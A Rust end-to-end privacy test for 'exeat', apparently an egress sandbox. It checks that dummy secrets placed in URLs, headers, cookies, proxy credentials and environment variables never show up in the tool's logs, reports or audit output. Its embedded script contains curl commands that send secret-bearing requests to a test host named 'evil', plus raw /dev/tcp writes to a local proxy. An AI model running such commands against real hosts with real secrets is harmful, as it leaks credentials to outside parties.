//! A03: plants secrets wherever a stage, its caller or its policy may have some, and searches for them in all output of
//! exeat.

use std::fs;
use std::path::{Path, PathBuf};

use e2e::case::{Bridge, Cases, Cx};

pub(crate) fn cases(list: &mut Cases) {
    list.bridges("privacy::a03_no_output_holds_a_secret", everywhere);
}

/// The secret that no output may contain. A number after it shows which place leaked.
const SECRET: &str = "hunter2secret";

fn everywhere(cx: &Cx) {
    let (good, evil) = (cx.good(), cx.evil());
    let secret = |place: &str| format!("{SECRET}-{place}");
    let home = cx.home().display().to_string();
    let proxy = "http://127.0.0.1:3128";
    // A secret argument appears in each form of a URL, a field and a body.
    let script = format!(
        "curl -sk -m 9 'https://u:{a}@{good}/{b}?token={c}' -H 'Authorization: Bearer {d}' -H 'Cookie: s={e}' -d 'pw={f}' -o /dev/null\n\
         curl -s -m 9 -x {proxy} 'http://u:{a}@{good}:80/{b}?token={c}#{g}' -H 'X-Key: {d}' -o /dev/null\n\
         curl -s -m 9 -p -x {proxy} --proxy-user 'u:{h}' 'https://{evil}/{b}' -o /dev/null\n\
         curl -s -m 9 --proxy-header 'Proxy-Authorization: Basic {i}' 'https://{evil}/{b}' -o /dev/null\n\
         curl -s -m 9 -x {proxy} 'ftp://u:{a}@{good}/{b}?{c}' -o /dev/null\n\
         printf 'CONNECT u:{a}@{good}:443 HTTP/1.1\\r\\nHost: {j}\\r\\n\\r\\n' | timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -c 99 <&3'\n\
         printf 'GET http://{good}:80/{b}?{c} HTTP/1.1\\r\\nBad Header {j}\\r\\n\\r\\n' | timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -c 99 <&3'\n\
         echo {k}; echo {k} >&2; exit 0",
        a = secret("userinfo"),
        b = secret("path"),
        c = secret("query"),
        d = secret("field"),
        e = secret("cookie"),
        f = secret("body"),
        g = secret("fragment"),
        h = secret("proxy-user"),
        i = secret("proxy-authorization"),
        j = secret("malformed"),
        k = secret("output"),
    );
    let allow = format!("{good}:80,443");
    let result = cx.home().join("result.json").display().to_string();
    let words = ["run", "--stage", "plain", "--result", &result, "--allow", &allow, "--env", "TOKEN"];
    let command = ["--", "bash", "-c", &script];
    let bridge = if cx.bridge() == Bridge::Relay { "relay" } else { "handoff" };
    let bridge = format!("sandbox.bridge={bridge}");
    let bridged = ["--set", bridge.as_str()];
    let done = cx
        .exeat_plain([&words[..], &bridged, &command].concat())
        .env("TOKEN", &secret("variable"))
        .env("OTHER", &secret("variable-of-the-caller"))
        .run();
    done.exits(0);
    // The stage may print it; the remaining lines are exeat's.
    let said: String = done.stderr().lines().filter(|line| !line.contains("-output")).collect();
    clean("stderr", said.as_bytes());
    let runs = cx.home().join(".local/state/exeat/runs");
    let mut record = None;
    for path in files(&runs).into_iter().chain([PathBuf::from(&result)]) {
        clean(&path.display().to_string(), &fs::read(&path).expect("a file"));
        record =
            record.or_else(|| path.to_string_lossy().ends_with(".jsonl").then(|| path.display().to_string()));
    }
    let record = record.expect("a record");
    let text = fs::read_to_string(&record).expect("the record");
    assert!(text.matches("\"event\":\"decision\"").count() >= 6, "the secrets were sent: {text}");
    let at = |name: &str| format!("{home}/{name}");
    let (page, learned, lock) = (at("report.html"), at("learned.toml"), at("egress.lock"));
    let policy = at("new.toml");
    fs::write(&policy, "schema = 1\n").expect("a policy");
    let outputs: &[&[&str]] = &[
        &["show"],
        &["show", "--format", "json"],
        &["list"],
        &["list", "--format", "json"],
        &["verify"],
        &["verify", "--format", "json"],
        &["summary"],
        &["summary", "--format", "json"],
        &["summary", "--format", "markdown"],
        &["summary", "--format", "github"],
        &["diff", &record],
        &["diff", &record, &record, "--format", "json"],
        &["diff", &record, &record, "--format", "markdown"],
        &["export"],
        &["export", "--ocsf", "1.8"],
        &["export", "--format", "jsonl"],
        &["report", "-o", &page],
        &["learn", "--denied"],
        &["learn", "--denied", "-o", &learned],
        &["lock"],
        &["lock", "-o", &lock],
        &["replay", "--policy", &policy],
        &["replay", "--policy", &policy, "--format", "json"],
        &["key"],
        &["prune", "--older-than", "1d", "--dry-run"],
    ];
    for words in outputs {
        let done = cx.exeat_plain([&["audit"], *words].concat()).run();
        assert!(matches!(done.code, Some(0 | 1)), "{done:?}");
        clean(&format!("{words:?}"), done.stdout().as_bytes());
        clean(&format!("{words:?}"), done.stderr().as_bytes());
    }
    for file in [&page, &learned, &lock] {
        let bytes = fs::read(file).expect("what was written");
        assert!(!bytes.is_empty(), "{file}");
        clean(file, &bytes);
    }
    // exeat's own trace is for debugging, and a log like any other.
    let words = ["run", "--allow", &allow, "--", "bash", "-c", &script];
    let traced = cx.exeat_plain(words).env("RUST_LOG", "trace").run();
    let said: String = traced.stderr().lines().filter(|line| !line.contains("-output")).collect();
    assert!(said.contains("decided"), "the trace is on: {traced:?}");
    clean("the trace", said.as_bytes());
}

fn clean(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    if let Some(at) = text.find(SECRET) {
        let end = (at + 60).min(text.len());
        panic!("{what} has a secret: {}", text.get(at.saturating_sub(60)..end).unwrap_or(&text));
    }
}

fn files(dir: &Path) -> Vec<PathBuf> {
    fs::read_dir(dir).expect("the place of records").flatten().map(|entry| entry.path()).collect()
}
